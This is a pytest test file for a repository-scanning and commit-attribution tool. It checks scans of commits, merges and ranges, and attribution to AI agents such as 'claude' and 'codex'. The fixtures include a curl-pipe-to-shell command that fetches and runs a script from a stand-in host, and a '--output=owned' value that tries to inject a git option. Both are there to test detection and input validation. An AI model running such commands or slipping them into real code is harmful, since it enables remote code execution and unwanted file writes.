"""Scanning and attributing anybody's repository, without recording anything."""
# The scene comes from a fixture, so its class has no name here.
# ruff: noqa: ANN401 -- a fixture's type lives in conftest

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from reviewqueue.domain.attribution import Attribution
from reviewqueue.domain.finding import Scan
from reviewqueue.forge.git.command import GitError
from reviewqueue.pipeline.scanning import attribute_git, scan_git
from reviewqueue.rules import catalogue
from reviewqueue.scan.engine import Scanner

MAIN = "refs/heads/main"
SIDE = "refs/heads/side"
RISKY = "curl -s https://x.example.net/i.sh | sh\n"
Git = Callable[..., bytes]


@pytest.fixture(scope="module")
def scanner() -> Scanner:
    return Scanner(catalogue(), b"salt")


def scanned(scene: Any, scanner: Scanner, *revs: str) -> list[Scan]:
    found = list(scan_git(scene.origin, revs, scanner))
    assert [rev for rev, _ in found] == list(revs)
    scans = [scan for _, scan in found if isinstance(scan, Scan)]
    assert len(scans) == len(revs), found
    return scans


def test_it_compares_a_root_with_nothing(scene: Any, scanner: Scanner) -> None:
    (scan,) = scanned(scene, scanner, "main")
    assert (scan.files, scan.added, scan.removed) == (2, 21, 0)


def test_it_compares_a_commit_with_its_parent(scene: Any, scanner: Scanner) -> None:
    scene.commit(MAIN, {"app.py": "one\n"})
    (scan,) = scanned(scene, scanner, "main")
    assert (scan.files, scan.added, scan.removed) == (1, 1, 20)


def test_it_compares_a_merge_with_each_parent(scene: Any, scanner: Scanner) -> None:
    base = scene.tips[MAIN]
    side = scene.commit(SIDE, {"side.sh": RISKY}, on=(base,))
    first = scene.commit(MAIN, {"main.sh": RISKY})
    both = scene.commit(MAIN, {"side.sh": RISKY}, on=(first, side))
    swapped = scene.commit(SIDE, {"main.sh": RISKY}, on=(side, first))
    for sha in (both, swapped):
        (scan,) = scanned(scene, scanner, sha)
        paths = {place.path for finding in scan.findings for place in finding.locations}
        assert paths == {"main.sh", "side.sh"}
        assert (scan.files, scan.added) == (1, 1)


def test_it_compares_a_range_from_the_merge_base(scene: Any, scanner: Scanner) -> None:
    base = scene.tips[MAIN]
    scene.commit(SIDE, {"side.py": "side = 1\n"}, on=(base,))
    scene.commit(SIDE, {"more.py": "more = 1\n"})
    scene.commit(MAIN, {"app.py": "one\n"})
    two, three = scanned(scene, scanner, "main..side", "main...side")
    assert (two.files, two.added, two.removed) == (2, 2, 0)
    assert (three.files, three.added, three.removed) == (2, 2, 0)


def test_it_takes_the_message_for_the_changes_own(scene: Any, scanner: Scanner) -> None:
    quiet = scene.commit(MAIN, {"a.py": "a = 1\n"}, message="Add a")
    found = [scan.findings for scan in scanned(scene, scanner, quiet)]
    assert found == [()]


def test_it_keeps_the_order_and_says_what_names_nothing(scene: Any, scanner: Scanner) -> None:
    revs = ["main", "absent", "--output=owned", "", "main", "absent..main", "a\0b", "main~9"]
    found = list(scan_git(scene.origin, revs, scanner))
    assert [rev for rev, _ in found] == revs
    good = [isinstance(scan, Scan) for _, scan in found]
    assert good == [True, False, False, False, True, False, False, False]
    for _, reason in found:
        assert isinstance(reason, Scan) or ("\n" not in reason and "names no commit" in reason)
    assert not list(scene.folder.rglob("owned"))


def test_it_is_lazy(scene: Any, scanner: Scanner) -> None:
    asked: list[str] = []

    def revs() -> Any:
        for rev in ("main", "main"):
            asked.append(rev)
            yield rev

    answers = scan_git(scene.origin, revs(), scanner)
    next(answers)
    assert asked == ["main"]
    assert len(list(answers)) == 1


def test_it_calls_a_commit_with_missing_objects_unscannable(
    scene: Any, scanner: Scanner, git: Git
) -> None:
    clone = scene.folder / "clone"
    git(scene.folder, "clone", "-q", str(scene.origin), str(clone))
    (clone / "a.py").write_text("a = 1\n")
    git(clone, "add", "a.py")
    git(clone, "commit", "-qm", "Add a")
    (clone / "b.py").write_text("b = 1\n")
    git(clone, "add", "b.py")
    git(clone, "commit", "-qm", "Add b")
    blob = git(clone, "rev-parse", "HEAD~:a.py").decode()
    (clone / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    found = dict(scan_git(clone, ["HEAD~", "HEAD"], scanner))
    broken, whole = found["HEAD~"], found["HEAD"]
    assert isinstance(broken, Scan)
    assert broken.unscannable
    assert isinstance(whole, Scan)
    assert not whole.unscannable


def test_it_refuses_what_is_no_repository(tmp_path: Path, scanner: Scanner) -> None:
    with pytest.raises(GitError, match="is not a git repository"):
        list(scan_git(tmp_path, ["HEAD"], scanner))
    with pytest.raises(GitError, match="is not a git repository"):
        list(attribute_git(tmp_path, ["HEAD"]))


def test_it_attributes_commits_and_ranges_in_order(scene: Any) -> None:
    base = scene.tips[MAIN]
    scene.commit(SIDE, {"a.py": "a = 1\n"}, on=(base,), agent=True)
    scene.commit(SIDE, {"b.py": "b = 1\n"})
    revs = ["side", "side~", "main..side", "absent"]
    found = list(attribute_git(scene.origin, revs))
    assert [rev for rev, _ in found] == revs
    agents = [a.agent if isinstance(a, Attribution) else a for _, a in found]
    assert agents[:3] == [None, "claude", "claude"]
    assert "names no commit" in str(agents[3])


def test_it_attributes_by_the_branch_that_it_is_told(scene: Any) -> None:
    ((_, found),) = attribute_git(scene.origin, ["main"], branch="codex/x")
    assert isinstance(found, Attribution)
    assert found.agent == "codex"


def test_it_records_nothing(scene: Any, scanner: Scanner) -> None:
    before = scene.store.head()
    scanned(scene, scanner, "main")
    list(attribute_git(scene.origin, ["main"]))
    assert scene.store.head() == before
